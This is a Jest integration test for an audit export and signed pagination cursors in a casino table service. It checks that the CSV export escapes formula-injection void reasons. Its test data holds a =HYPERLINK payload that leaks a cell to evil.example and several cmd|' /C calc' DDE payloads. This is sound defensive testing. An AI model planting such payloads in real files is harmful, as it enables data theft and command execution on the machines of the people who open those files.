import { randomUUID } from 'node:crypto';
import type { RunningStudio } from '../../src/bootstrap';
import type { TableDefinition } from '../../src/config/tables-config';
import {
  postJson,
  shoeDealtByTheTest,
  signIn,
  startTestStudio,
  waitFor,
} from '../support/studio-harness';
import { createTestDatabase, TestDatabase } from '../support/test-database';

jest.setTimeout(120_000);

const TABLE = {
  id: 'export-pd',
  name: 'Export PD',
  game: 'pok-deng',
  currency: 'THB',
  bettingWindowMs: 60_000,
  scanner: { wireFormat: 'line', virtualShoe: shoeDealtByTheTest(9) },
} as unknown as TableDefinition;

/** What a spreadsheet runs when the cell is opened (OWASP CSV injection). */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';

/**
 * The auditor's export on the real service: a void reason a supervisor typed reaches the CSV as
 * text a spreadsheet will not run, every other formula prefix too, and the NDJSON keeps the values
 * exactly. The cursors the service signs are good on a second instance of the same database.
 */
describe('auditor export and signed cursors on the real service', () => {
  let db: TestDatabase;
  let studio: RunningStudio;
  const since = new Date(Date.now() - 1_000);

  beforeAll(async () => {
    db = await createTestDatabase('audit_export');
    studio = await startTestStudio({
      databaseUrl: db.url,
      tables: [TABLE],
      env: { DEMO_USERS: 'true', STUDIO_INSTANCE_ID: 'export-a', VIRTUAL_DEALER_PACE_MS: '20' },
    });
  });

  afterAll(async () => {
    await studio?.close();
    await db.drop();
  });

  const q = <T = Record<string, unknown>>(sql: string, params: unknown[] = []): Promise<T[]> =>
    studio.database.dataSource.query(sql, params);

  async function get(url: string, path: string, token: string) {
    const response = await fetch(`${url}${path}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      text: await response.text(),
    };
  }

  it('exports a void reason =HYPERLINK(...) and every formula prefix as text in the CSV', async () => {
    const supervisor = {
      authorization: `Bearer ${await signIn(studio.url, 'supervisor', 'supervisor-demo')}`,
    };
    const round = await waitFor('betting to open', async () => {
      const response = await fetch(`${studio.url}/tables/export-pd`, { headers: supervisor });
      const view = (await response.json()) as {
        round: { id: string; bettingOpen: boolean } | null;
      };
      return view.round?.bettingOpen ? view.round : undefined;
    });
    const voided = await postJson(
      studio.url,
      '/tables/export-pd/void',
      { reason: HYPERLINK },
      supervisor,
    );
    expect(voided.body).toMatchObject({ accepted: true });
    expect((await q(`SELECT void_reason FROM rounds WHERE id = $1`, [round.id]))[0]).toEqual({
      void_reason: HYPERLINK,
    });

    // The other prefixes, in rounds written as the store writes them (a reason typed at the
    // console is trimmed, so a leading tab or CR only comes from elsewhere).
    const reasons = [
      '+1+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+9)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const seeded = new Map<string, string>();
    for (const [i, reason] of reasons.entries()) {
      const id = randomUUID();
      seeded.set(id, reason);
      await q(
        `INSERT INTO rounds (id, table_id, shoe_id, shoe_number, round_number, game, status, phase, started_at, void_reason)
         VALUES ($1, 'export-pd', NULL, 99, $2, 'pok-deng', 'voided', 'betting', now(), $3)`,
        [id, 900 + i, reason],
      );
    }

    const auditor = await signIn(studio.url, 'auditor', 'auditor-demo');
    const range = { from: since.toISOString(), to: new Date(Date.now() + 1_000).toISOString() };
    const csv = await get(
      studio.url,
      `/audit/export?${new URLSearchParams({ ...range, format: 'csv' })}`,
      auditor,
    );
    expect(csv.status).toBe(200);
    expect(csv.type).toContain('text/csv');
    const lineOf = (id: string) => csv.text.split('\r\n').find((l) => l.startsWith(id))!;
    // Quoted (it holds quotes and commas), the quotes doubled, and the ' in front.
    expect(lineOf(round.id)).toContain(
      `,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")",`,
    );
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const cells = {
      '+': `,"'+1+cmd|"" /C calc""!A0",`,
      '-': `,"'-2+3+cmd|"" /C calc""!A0",`,
      '@': `,"'@SUM(1+9)*cmd|"" /C calc""!A0",`,
      '\t': `,'\t=1+1,`,
      '\r': `,"'\r=1+1",`,
    };
    for (const [id, reason] of seeded) {
      expect(lineOf(id)).toContain(cells[reason[0] as keyof typeof cells]);
    }
    // Money stays numeric: the voided round refunded nothing (no bets), so its totals are 0.
    expect(lineOf(round.id).endsWith(',0,0,0,0')).toBe(true);

    const nd = await get(
      studio.url,
      `/audit/export?${new URLSearchParams({ ...range, format: 'ndjson' })}`,
      auditor,
    );
    const rows = nd.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { roundId: string; voidReason: string | null });
    const reasonOf = new Map(rows.map((r) => [r.roundId, r.voidReason]));
    expect(reasonOf.get(round.id)).toBe(HYPERLINK);
    for (const [id, reason] of seeded) expect(reasonOf.get(id)).toBe(reason);
  });

  it('signs cursors with a key generated once and shared by every instance', async () => {
    const stored = await q<{ name: string; secret: Buffer }>(
      `SELECT name, secret FROM shared_secrets ORDER BY name`,
    );
    expect(stored.map((r) => [r.name, r.secret.length])).toEqual([
      ['audit-cursor-key', 32],
      ['audit-cursor-key-fingerprint', 32],
    ]);

    const second = await startTestStudio({
      databaseUrl: db.url,
      tables: [TABLE],
      env: { STUDIO_INSTANCE_ID: 'export-b' },
    });
    try {
      const auditor = await signIn(studio.url, 'auditor', 'auditor-demo');
      const first = await get(studio.url, '/audit/rounds?limit=1', auditor);
      const cursor = (JSON.parse(first.text) as { nextCursor: string }).nextCursor;
      expect(cursor).toEqual(expect.stringContaining('.'));
      const page = (url: string) =>
        get(url, `/audit/rounds?${new URLSearchParams({ limit: '1', cursor })}`, auditor);
      const [here, there] = await Promise.all([page(studio.url), page(second.url)]);
      expect(there.status).toBe(200);
      expect(there.text).toBe(here.text);
      expect(await q(`SELECT name FROM shared_secrets`)).toHaveLength(2);
    } finally {
      await second.close();
    }
  });

  it("refuses to start an instance whose CURSOR_SIGNING_KEY is not the others' key", async () => {
    // The first instance signs with the generated key: this one's cursors would be refused there.
    await expect(
      startTestStudio({
        databaseUrl: db.url,
        tables: [TABLE],
        env: { STUDIO_INSTANCE_ID: 'export-c', CURSOR_SIGNING_KEY: 'c'.repeat(40) },
      }),
    ).rejects.toThrow(/^CURSOR_SIGNING_KEY is not the key the studio's other instances sign/);
  });

  it('refuses to start with a CURSOR_SIGNING_KEY too short to sign with', async () => {
    await expect(
      startTestStudio({
        databaseUrl: db.url,
        tables: [TABLE],
        env: { CURSOR_SIGNING_KEY: 'short' },
      }),
    ).rejects.toThrow('CURSOR_SIGNING_KEY must be at least 32 characters');
  });
});
